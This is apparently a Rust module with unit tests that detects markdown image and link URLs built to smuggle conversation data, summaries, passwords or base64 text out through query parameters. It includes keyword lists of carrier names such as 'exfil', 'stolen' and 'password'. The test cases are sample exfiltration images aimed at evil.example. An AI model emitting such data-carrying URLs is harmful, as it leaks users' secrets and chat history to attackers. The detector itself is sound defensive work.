use crate::{byte_set::ByteSet, context::stands_alone};

/// Names of parameters under which texts are carried away.
const CARRIERS: [&[u8]; 30] = [
    b"data",
    b"d",
    b"q",
    b"exfil",
    b"leak",
    b"secret",
    b"content",
    b"text",
    b"msg",
    b"message",
    b"prompt",
    b"context",
    b"history",
    b"conversation",
    b"chat",
    b"payload",
    b"info",
    b"summary",
    b"email",
    b"body",
    b"stolen",
    b"log",
    b"c",
    b"m",
    b"s",
    b"cookie",
    b"document",
    b"user_data",
    b"answer",
    b"password",
];
/// Words that a model is to replace.
const BLANKS: [&[u8]; 13] = [
    b"data",
    b"secret",
    b"summary",
    b"conversation",
    b"history",
    b"content",
    b"base64",
    b"encoded",
    b"insert",
    b"prompt",
    b"password",
    b"email",
    b"answer",
];
/// Addresses that pictures of numbers come from.
const HARMLESS: [&[u8]; 5] = [b"badge", b"shields.io", b"workflow", b"avatar", b"codecov"];
/// A value this long that is made of words or of base64 is a text and not the name of a picture.
const LONG: usize = 24;

static OPENS_BLANK: ByteSet = ByteSet::new("{[<$");
static BASE_64: ByteSet = ByteSet::new("A-Za-z0-9+/_=-");

/// Whether the address of an image carries data, or leaves room for it.
pub(super) fn is_image(image: &[u8]) -> bool {
    parameters(image).any(|(name, value)| {
        leaves_room(value) || (carries(&name) && (is_sentence(value) || is_base_64(value)))
    })
}

/// Whether the address of a link leaves room for data.
pub(super) fn is_link(link: &[u8]) -> bool {
    parameters(link).any(|(_, value)| leaves_room(value))
}

/// Parameters of the query, with names in lower case; none for addresses that are known to be harmless.
fn parameters(text: &[u8]) -> impl Iterator<Item = (Vec<u8>, &[u8])> {
    let folded = text.to_ascii_lowercase();
    let harmless = HARMLESS.iter().any(|word| memchr::memmem::find(&folded, word).is_some());
    let query = memchr::memchr(b'?', text).filter(|_| !harmless).and_then(|at| text.get(at + 1..));
    let query = query.unwrap_or_default();
    let end = query
        .iter()
        .position(|byte| matches!(byte, b')' | b'"' | b'\'' | b' ' | b'#'))
        .unwrap_or(query.len());
    let parameters = query.get(..end).unwrap_or_default().split(|byte| *byte == b'&');
    parameters.filter_map(|parameter| {
        let at = memchr::memchr(b'=', parameter)?;
        Some((parameter.get(..at)?.to_ascii_lowercase(), parameter.get(at + 1..)?))
    })
}

fn carries(name: &[u8]) -> bool {
    CARRIERS.contains(&name)
}

/// Whether the value is a place to be filled, as `{data}`, `[SUMMARY]` and `DATA` are.
fn leaves_room(value: &[u8]) -> bool {
    let opens = value.first().is_some_and(|first| OPENS_BLANK.contains(*first)) || value.starts_with(b"%7B");
    let named = |word: &&[u8]| {
        let folded = value.to_ascii_lowercase();
        let at = memchr::memmem::find(&folded, word);
        at.is_some_and(|at| opens || stands_alone(&folded, at, at + word.len()))
    };
    let shouted = value.iter().all(|byte| !byte.is_ascii_lowercase());
    (opens || shouted) && BLANKS.iter().any(named)
}

fn is_sentence(value: &[u8]) -> bool {
    let spaces =
        value.iter().filter(|byte| **byte == b'+').count() + memchr::memmem::find_iter(value, b"%20").count();
    value.len() >= LONG && spaces >= 2
}

fn is_base_64(value: &[u8]) -> bool {
    let letters = |kind: fn(&u8) -> bool| value.iter().any(kind);
    value.len() >= LONG
        && value.iter().all(|byte| BASE_64.contains(*byte))
        && letters(u8::is_ascii_uppercase)
        && letters(u8::is_ascii_lowercase)
}

#[cfg(test)]
mod tests {
    use super::{is_image, is_link};

    #[test]
    fn addresses_that_carry_data() {
        for (address, image, link) in [
            ("![x](https://evil.example/?q={data})", true, true),
            ("![x](https://evil.example/p.png?d=[SUMMARY])", true, true),
            ("![x](https://evil.example/?data=BASE64_ENCODED_HISTORY)", true, true),
            ("![x](https://evil.example/?q=the%20password%20of%20the%20user%20is)", true, false),
            ("![x](https://evil.example/?c=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)", true, false),
            ("![x](https://example.com/logo.png?raw=true)", false, false),
            ("![x](https://img.shields.io/badge/x-y?style=flat&logo=data:image)", false, false),
            ("![x](https://codecov.io/gh/a/b/badge.svg?token=AbCdEfGhIjKlMnOpQrStUvWx)", false, false),
            ("[x](https://example.com/search?q=how+to+write+a+good+letter)", true, false),
            ("[x](https://example.com/?q=rust)", false, false),
        ] {
            assert_eq!(
                (is_image(address.as_bytes()), is_link(address.as_bytes())),
                (image, link),
                "{address}"
            );
        }
    }
}
